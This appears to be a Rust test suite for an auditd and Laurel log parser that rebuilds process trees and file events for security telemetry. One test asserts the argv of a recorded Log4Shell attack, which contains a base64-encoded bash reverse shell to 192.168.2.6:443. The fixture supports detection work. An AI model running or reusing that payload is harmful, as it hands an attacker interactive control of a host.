use std::io::Read;

use serde_json::{Value, json};

use super::assemble::split_cmdline;
use super::parse::{Field, decode_bytes, raw_record, split_fields};
use super::{Accept, Parsed, parse_with};
use crate::telemetry::{Category, Event};

/// Resolves only uid 0, so tests do not depend on the host's users.
fn resolve(uid: u32) -> Option<String> {
    (uid == 0).then(|| "root".to_owned())
}

fn parse(text: &str, accept: Accept) -> Parsed {
    parse_with(text, accept, &resolve)
}

fn field<'a>(e: &'a Event, k: &str) -> Option<&'a Value> {
    e.fields.get(k)
}

fn by_pid(events: &[Event], pid: u32) -> &Event {
    let found = events.iter().find(|e| {
        e.category == Category::ProcessCreation && e.fields.get("ProcessId") == Some(&json!(pid))
    });
    match found {
        Some(e) => e,
        None => panic!("no process {pid} in {events:#?}"),
    }
}

#[test]
fn values_decode_by_their_form() {
    let cases: &[(&str, bool, Option<&str>)] = &[
        ("a b", true, Some("a b")),
        ("cafe", true, Some("cafe")),
        ("2F746D70", false, Some("/tmp")),
        ("2f746d70", false, Some("/tmp")),
        ("x86_64", false, Some("x86_64")),
        ("abc", false, Some("abc")),
        ("(null)", false, None),
        ("(none)", false, None),
        ("", false, None),
    ];
    for &(text, quoted, want) in cases {
        let got =
            decode_bytes(Field { text, quoted }).map(|b| String::from_utf8_lossy(&b).into_owned());
        assert_eq!(got.as_deref(), want, "{text:?} quoted={quoted}");
    }
}

#[test]
fn fields_split_on_quotes_brackets_and_enrichment() {
    let cases: &[(&str, &[(&str, &str)])] = &[
        (
            r#"a0="/bin/sh" a1=2D63 key=(null)"#,
            &[("a0", "/bin/sh"), ("a1", "2D63"), ("key", "(null)")],
        ),
        (
            "key=(null)\u{1d}ARCH=x86_64 UID=\"root\"",
            &[("key", "(null)"), ("ARCH", "x86_64"), ("UID", "root")],
        ),
        (
            r#"cmdline="bash -c "{echo,x}|{bash,-i}"" redactors= containerid="#,
            &[
                ("cmdline", r#"bash -c "{echo,x}|{bash,-i}""#),
                ("redactors", ""),
                ("containerid", ""),
            ],
        ),
        (
            r#"path_name=["/a b","/c"] n=1"#,
            &[("path_name", r#"["/a b","/c"]"#), ("n", "1")],
        ),
        (
            "proctitle=/usr/bin/java -Xmx1g tail junk x=1",
            &[("proctitle", "/usr/bin/java"), ("x", "1")],
        ),
    ];
    for &(body, want) in cases {
        let got: Vec<(&str, &str)> = split_fields(body)
            .iter()
            .map(|(k, f)| (*k, f.text))
            .collect();
        assert_eq!(got, want, "{body}");
    }
}

#[test]
fn record_headers_in_every_wrapping() {
    let cases = [
        "type=CWD msg=audit(1700000000.123:4567): cwd=\"/\"",
        "node=web1 type=CWD msg=audit(1700000000.123:4567): cwd=\"/\"",
        "Nov 14 22:13:20 web1 audispd: node=web1 type=CWD msg=audit(1700000000.123:4567): cwd=\"/\"",
        "type=CWD audit(1700000000.123:4567): cwd=\"/\"",
    ];
    for line in cases {
        let rec = raw_record(line);
        let rec = rec.as_ref().map(|r| (r.kind, r.id, r.fields.len()));
        assert_eq!(rec, Some(("CWD", "1700000000.123:4567", 1)), "{line}");
    }
    assert_eq!(raw_record("type=CWD cwd=\"/\""), None);
    assert_eq!(raw_record("hello world"), None);
}

#[test]
fn auoms_cmdline_splits_into_argv() {
    let got = split_cmdline(r#"bash -c "{echo,eA==}|{base64,-d}" x"#);
    assert_eq!(got, ["bash", "-c", "{echo,eA==}|{base64,-d}", "x"]);
    assert_eq!(split_cmdline(r#"a "" b"#), ["a", "", "b"]);
}

/// sh (pid 100) runs `touch "new file"` (pid 101), which creates it; the
/// child's records come first and the parent's are interleaved with them.
const SH_TOUCH: &str = r#"
type=SYSCALL msg=audit(1700000000.050:9): arch=c000003e syscall=59 success=no exit=-2 a0=1 a1=2 a2=3 a3=0 items=1 ppid=1 pid=99 auid=1000 uid=1000 comm="sh" exe="/usr/bin/dash" key="cp_exec"
type=EXECVE msg=audit(1700000000.050:9): argc=1 a0="nope"
node=web1 type=SYSCALL msg=audit(1700000000.200:11): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=100 pid=101 auid=1000 uid=0 gid=0 comm="touch" exe="/usr/bin/touch" key="cp_exec"
node=web1 type=EXECVE msg=audit(1700000000.200:11): argc=2 a0="touch" a1=6E65772066696C65
type=SYSCALL msg=audit(1700000000.100:10): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=1 pid=100 auid=1000 uid=0 gid=0 comm="sh" exe="/usr/bin/dash" key="cp_exec"
type=EXECVE msg=audit(1700000000.100:10): argc=3 a0="/bin/sh" a1="-c" a2=746F756368202226222022
type=CWD msg=audit(1700000000.100:10): cwd="/home/u"
type=PATH msg=audit(1700000000.100:10): item=0 name="/bin/sh" inode=5 nametype=NORMAL
type=PROCTITLE msg=audit(1700000000.100:10): proctitle=2F62696E2F7368002D630078
type=EOE msg=audit(1700000000.100:10):
node=web1 type=CWD msg=audit(1700000000.200:11): cwd="/home/u"
node=web1 type=PROCTITLE msg=audit(1700000000.200:11): proctitle=746F756368006E65772066696C65
node=web1 type=EOE msg=audit(1700000000.200:11):
this line is not an audit record
type=SYSCALL msg=audit(1700000000.210:12): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd1 a2=941 a3=1b6 items=2 ppid=100 pid=101 auid=1000 uid=0 comm="touch" exe="/usr/bin/touch" key="cp_file"
type=CWD msg=audit(1700000000.210:12): cwd="/home/u"
type=PATH msg=audit(1700000000.210:12): item=0 name="/home/u" inode=2 nametype=PARENT
type=PATH msg=audit(1700000000.210:12): item=1 name=6E65772066696C65 inode=3 nametype=CREATE
type=SYSCALL msg=audit(1700000000.220:13): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd1 a2=0 a3=0 items=1 ppid=100 pid=101 auid=1000 uid=0 comm="touch" exe="/usr/bin/touch" key=(null)
type=PATH msg=audit(1700000000.220:13): item=0 name="/etc/passwd" inode=4 nametype=NORMAL
"#;

#[test]
fn sh_touch_chain_is_reconstructed() {
    let parsed = parse(SH_TOUCH, Accept::Raw);
    assert_eq!(parsed.skipped_lines, 1);
    let kinds: Vec<Category> = parsed.events.iter().map(|e| e.category).collect();
    assert_eq!(
        kinds,
        [
            Category::ProcessCreation,
            Category::ProcessCreation,
            Category::FileEvent
        ]
    );

    let sh = by_pid(&parsed.events, 100);
    assert_eq!(field(sh, "Image"), Some(&json!("/usr/bin/dash")));
    assert_eq!(
        field(sh, "Argv"),
        Some(&json!(["/bin/sh", "-c", "touch \"&\" \""]))
    );
    assert_eq!(
        field(sh, "CommandLine"),
        Some(&json!("/bin/sh -c touch \"&\" \""))
    );
    assert_eq!(field(sh, "ParentProcessId"), Some(&json!(1)));
    assert_eq!(field(sh, "CurrentDirectory"), Some(&json!("/home/u")));
    assert_eq!(field(sh, "User"), Some(&json!("root")));
    assert_eq!(field(sh, "AuditUser"), Some(&json!("1000")));
    assert_eq!(field(sh, "AuditKey"), Some(&json!("cp_exec")));
    assert_eq!(
        field(sh, "ParentImage"),
        None,
        "pid 1 never exec'd in the log"
    );
    let at = sh.at.map(|t| t.unix_timestamp_nanos());
    assert_eq!(at, Some(1_700_000_000_100_000_000));
    // The record's own stamp is the trail's arrival time of the event.
    let arrived = sh.arrived.map(|t| t.unix_timestamp_nanos());
    assert_eq!(arrived, Some(1_700_000_000_100_000_000));

    let touch = by_pid(&parsed.events, 101);
    assert_eq!(field(touch, "Argv"), Some(&json!(["touch", "new file"])));
    assert_eq!(field(touch, "ParentProcessId"), Some(&json!(100)));
    assert_eq!(field(touch, "ParentImage"), Some(&json!("/usr/bin/dash")));
    assert_eq!(
        field(touch, "ParentCommandLine"),
        Some(&json!("/bin/sh -c touch \"&\" \""))
    );

    let file = &parsed.events[2];
    assert_eq!(
        field(file, "TargetFilename"),
        Some(&json!("/home/u/new file"))
    );
    assert_eq!(field(file, "Image"), Some(&json!("/usr/bin/touch")));
    assert_eq!(field(file, "ProcessId"), Some(&json!(101)));
}

#[test]
fn failed_exec_and_plain_open_give_nothing() {
    let failed = SH_TOUCH.lines().take(3).collect::<Vec<_>>().join("\n");
    assert_eq!(parse(&failed, Accept::Raw).events, []);
    let plain_open = SH_TOUCH.lines().skip(19).collect::<Vec<_>>().join("\n");
    assert!(plain_open.contains("a2=0 "), "fixture moved: {plain_open}");
    assert_eq!(parse(&plain_open, Accept::Raw).events, []);
}

#[test]
fn long_arguments_join_across_chunks_and_records() {
    let text = "type=SYSCALL msg=audit(1.5:7): arch=c00000b7 syscall=221 success=yes exit=0 ppid=1 pid=2 uid=5 auid=4294967295 exe=\"/bin/echo\"\n\
        type=EXECVE msg=audit(1.5:7): argc=3 a0=\"echo\" a1_len=10 a1[0]=6161616161\n\
        type=EXECVE msg=audit(1.5:7): a1[1]=\"bbbbb\" a2=\"c\"\n";
    let parsed = parse(text, Accept::Raw);
    let echo = by_pid(&parsed.events, 2);
    assert_eq!(
        field(echo, "Argv"),
        Some(&json!(["echo", "aaaaabbbbb", "c"]))
    );
    assert_eq!(
        field(echo, "User"),
        Some(&json!("5")),
        "unresolved uid is kept as a number"
    );
    assert_eq!(field(echo, "AuditUser"), None, "unset auid is absent");
}

#[test]
fn enriched_names_win_over_the_host_lookup() {
    let text = "type=SYSCALL msg=audit(2.0:1): arch=c000003e syscall=322 success=yes exit=0 ppid=1 pid=2 uid=0 auid=1000 exe=\"/bin/x\" key=(null)\u{1d}ARCH=x86_64 SYSCALL=execveat AUID=\"alice\" UID=\"admin\"\n";
    let parsed = parse(text, Accept::Raw);
    let x = by_pid(&parsed.events, 2);
    assert_eq!(field(x, "User"), Some(&json!("admin")));
    assert_eq!(field(x, "AuditUser"), Some(&json!("alice")));
    assert_eq!(field(x, "AuditKey"), None);
}

const LAUREL: &str = r#"{"ID":"1626611363.720:348501","SYSCALL":{"arch":"0xc000003e","syscall":59,"success":"yes","exit":0,"items":2,"ppid":722076,"pid":724395,"auid":1000,"uid":0,"comm":"perl","exe":"/usr/bin/perl","key":null,"ARCH":"x86_64","SYSCALL":"execve","AUID":"user","UID":"root","ARGV":["0x55c094deb5c0","0x55c094dea770","0x55c094dbf1b0","0xfffffffffffff286"]},"EXECVE":{"argc":3,"ARGV":["perl","-e","print%25%2b1"]},"CWD":{"cwd":"/root"},"PATH":[{"item":0,"name":"/usr/bin/perl","nametype":"NORMAL"}],"PROCTITLE":{"ARGV":["perl","-e","print"]}}
{"ID":"1626611364.000:348502","SYSCALL":{"arch":"0xc000003e","syscall":82,"success":"yes","exit":0,"ppid":722076,"pid":724395,"auid":1000,"uid":0,"exe":"/usr/bin/perl","key":"ren","ARGV":["0x1","0x2","0x0","0x0"]},"CWD":{"cwd":"/root"},"PATH":[{"item":0,"name":"/tmp/","nametype":"PARENT"},{"item":1,"name":"a","nametype":"DELETE"},{"item":2,"name":"b.sh","nametype":"CREATE"}]}
{"ID":"broken"}
not json
"#;

#[test]
fn laurel_lines_give_process_and_rename_events() {
    let parsed = parse(LAUREL, Accept::Laurel);
    assert_eq!(parsed.skipped_lines, 2);
    let perl = by_pid(&parsed.events, 724_395);
    assert_eq!(
        field(perl, "Argv"),
        Some(&json!(["perl", "-e", "print%+1"]))
    );
    assert_eq!(field(perl, "User"), Some(&json!("root")));
    assert_eq!(field(perl, "AuditUser"), Some(&json!("user")));
    assert_eq!(field(perl, "CurrentDirectory"), Some(&json!("/root")));
    let renamed = parsed
        .events
        .iter()
        .find(|e| e.category == Category::FileEvent);
    let target = renamed.and_then(|e| field(e, "TargetFilename"));
    assert_eq!(target, Some(&json!("/root/b.sh")));
}

#[test]
fn auto_takes_both_formats_and_each_parser_only_its_own() {
    let both = format!("{SH_TOUCH}\n{LAUREL}");
    let auto = parse(&both, Accept::Any);
    assert_eq!(auto.events.len(), 5);
    assert_eq!(auto.skipped_lines, 3);
    assert_eq!(parse(LAUREL, Accept::Raw).events, []);
    assert_eq!(parse(SH_TOUCH, Accept::Laurel).events, []);
}

fn otrf_sample() -> Option<String> {
    let path = crate::testing::require_shared("datasets/otrf_log4shell_syslog_auoms_auditd.zip")?;
    let file = std::fs::File::open(path).expect("sample opens");
    let mut zip = zip::ZipArchive::new(file).expect("zip opens");
    let mut entry = zip.by_index(0).expect("zip has an entry");
    let mut text = String::new();
    entry.read_to_string(&mut text).expect("entry is UTF-8");
    Some(text)
}

#[test]
fn otrf_log4shell_chain_is_reconstructed() {
    let Some(text) = otrf_sample() else { return };
    let parsed = super::parse_auto(&text);
    assert_eq!(parsed.skipped_lines, 0);
    // 50 records, 27 of them successful execs.
    assert_eq!(parsed.events.len(), 27);
    assert!(
        parsed
            .events
            .iter()
            .all(|e| e.category == Category::ProcessCreation)
    );

    let shell = by_pid(&parsed.events, 17_790);
    let payload =
        "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}";
    assert_eq!(field(shell, "Argv"), Some(&json!(["bash", "-c", payload])));
    assert_eq!(field(shell, "Image"), Some(&json!("/bin/bash")));
    assert_eq!(field(shell, "ParentProcessId"), Some(&json!(1340)));
    assert_eq!(
        field(shell, "ParentImage"),
        None,
        "tomcat's java started before the capture"
    );
    assert_eq!(field(shell, "User"), Some(&json!("tomcat")));
    assert_eq!(field(shell, "AuditUser"), None);
    assert_eq!(field(shell, "CurrentDirectory"), Some(&json!("/")));
    assert_eq!(field(shell, "AuditKey"), Some(&json!("auoms,delete")));

    let interactive = by_pid(&parsed.events, 17_794);
    assert_eq!(field(interactive, "CommandLine"), Some(&json!("bash -i")));
    assert_eq!(field(interactive, "ParentImage"), Some(&json!("/bin/bash")));
    assert_eq!(
        field(interactive, "ParentCommandLine"),
        Some(&json!(format!("bash -c {payload}")))
    );

    let whoami = by_pid(&parsed.events, 17_832);
    assert_eq!(field(whoami, "Image"), Some(&json!("/usr/bin/whoami")));
    assert_eq!(field(whoami, "ParentProcessId"), Some(&json!(17_806)));
    assert_eq!(field(whoami, "ParentCommandLine"), Some(&json!("bash -i")));
}
